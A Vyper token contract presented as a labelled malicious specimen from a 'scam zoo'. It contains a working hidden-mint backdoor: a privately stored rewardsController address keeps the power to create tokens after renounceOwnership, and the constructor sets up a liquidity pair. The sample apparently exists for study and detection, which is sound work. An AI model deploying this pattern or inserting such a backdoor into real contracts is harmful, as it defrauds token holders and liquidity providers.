# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Hidden minter (scam zoo)
@notice MALICIOUS sandbox specimen. The owner renounces, yet an address stored under the
        innocuous name rewardsController can still create tokens from nothing through
        distributeRewards.
"""

interface IRouter:
    def factory() -> address: view
    def WETH() -> address: view

interface IFactory:
    def createPair(tokenA: address, tokenB: address) -> address: nonpayable

event Transfer:
    sender: indexed(address)
    receiver: indexed(address)
    value: uint256

event Approval:
    owner: indexed(address)
    spender: indexed(address)
    value: uint256

name: public(String[64])
symbol: public(String[32])
decimals: public(uint8)
totalSupply: public(uint256)
balanceOf: public(HashMap[address, uint256])
allowance: public(HashMap[address, HashMap[address, uint256]])
owner: public(address)
pair: public(address)
rewardsController: address

event OwnershipTransferred:
    previous_owner: indexed(address)
    new_owner: indexed(address)


@deploy
def __init__(name_: String[64], symbol_: String[32], supply: uint256, router: address):
    self.name = name_
    self.symbol = symbol_
    self.decimals = 18
    self.owner = msg.sender
    self.rewardsController = msg.sender
    self.totalSupply = supply
    self.balanceOf[msg.sender] = supply
    log Transfer(sender=empty(address), receiver=msg.sender, value=supply)
    self.pair = extcall IFactory(staticcall IRouter(router).factory()).createPair(
        self, staticcall IRouter(router).WETH())


@internal
def _transfer(sender: address, receiver: address, amount: uint256):
    assert receiver != empty(address), "transfer to zero address"
    balance: uint256 = self.balanceOf[sender]
    assert balance >= amount, "insufficient balance"
    self.balanceOf[sender] = balance - amount
    self.balanceOf[receiver] += amount
    log Transfer(sender=sender, receiver=receiver, value=amount)


@external
def distributeRewards(receiver: address, amount: uint256):
    assert msg.sender == self.rewardsController, "not allowed"
    self.totalSupply += amount
    self.balanceOf[receiver] += amount
    log Transfer(sender=empty(address), receiver=receiver, value=amount)


@external
def renounceOwnership():
    assert msg.sender == self.owner, "not the owner"
    log OwnershipTransferred(previous_owner=self.owner, new_owner=empty(address))
    self.owner = empty(address)


@external
def transfer(receiver: address, amount: uint256) -> bool:
    self._transfer(msg.sender, receiver, amount)
    return True


@external
def transferFrom(sender: address, receiver: address, amount: uint256) -> bool:
    allowed: uint256 = self.allowance[sender][msg.sender]
    if allowed != max_value(uint256):
        assert allowed >= amount, "insufficient allowance"
        self.allowance[sender][msg.sender] = allowed - amount
    self._transfer(sender, receiver, amount)
    return True


@external
def approve(spender: address, amount: uint256) -> bool:
    self.allowance[msg.sender][spender] = amount
    log Approval(owner=msg.sender, spender=spender, value=amount)
    return True
